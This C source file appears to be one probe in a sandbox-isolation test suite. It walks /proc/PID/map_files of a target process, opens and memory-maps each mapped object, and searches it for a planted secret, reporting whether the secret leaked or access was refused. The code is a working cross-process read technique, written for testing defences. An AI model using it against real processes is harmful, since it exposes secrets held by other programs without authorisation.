// SPDX-License-Identifier: Apache-2.0
// Opens every mapped object anew by /proc/PID/map_files and maps it into this process.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

#define VECTOR "/proc/pid/map_files"

struct loot {
    int seen, opened, leaked;
    int refused_errno;
};

static void look_into(int dir, const char *name, const struct attack_needle *needle,
                      struct loot *loot)
{
    uint64_t start, end;
    struct stat st;
    if (sscanf(name, "%" SCNx64 "-%" SCNx64, &start, &end) != 2) {
        return;
    }
    loot->seen++;
    int fd = openat(dir, name, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        loot->refused_errno = errno;
        return;
    }
    loot->opened++;
    if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && st.st_size > 0) {
        void *p = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_SHARED, fd, 0);
        if (p != MAP_FAILED) {
            loot->leaked += attack_find(needle, p, (size_t)st.st_size) != NULL;
            munmap(p, (size_t)st.st_size);
        }
    }
    close(fd);
}

int main(int argc, char **argv)
{
    pid_t pid;
    struct attack_needle needle;
    struct loot loot = {0};
    char path[64];
    if (!attack_arguments(argc, argv, &pid, &needle)) {
        return ATTACK_NOT_APPLICABLE;
    }
    snprintf(path, sizeof(path), "/proc/%d/map_files", (int)pid);
    DIR *dir = opendir(path);
    if (dir == NULL) {
        return attack_tell_refused(VECTOR, "it cannot be listed");
    }
    for (struct dirent *e = readdir(dir); e != NULL; e = readdir(dir)) {
        look_into(dirfd(dir), e->d_name, &needle, &loot);
    }
    closedir(dir);
    if (loot.leaked > 0) {
        printf(VECTOR ": LEAKED: %d mapped objects hold it\n", loot.leaked);
        return ATTACK_LEAKED;
    }
    if (loot.seen > 0 && loot.opened == 0) {
        errno = loot.refused_errno;
        return attack_tell_refused(VECTOR, "no mapped object could be opened");
    }
    printf(VECTOR ": not found: %d of %d mapped objects opened, none holds it\n", loot.opened,
           loot.seen);
    return ATTACK_REFUSED;
}
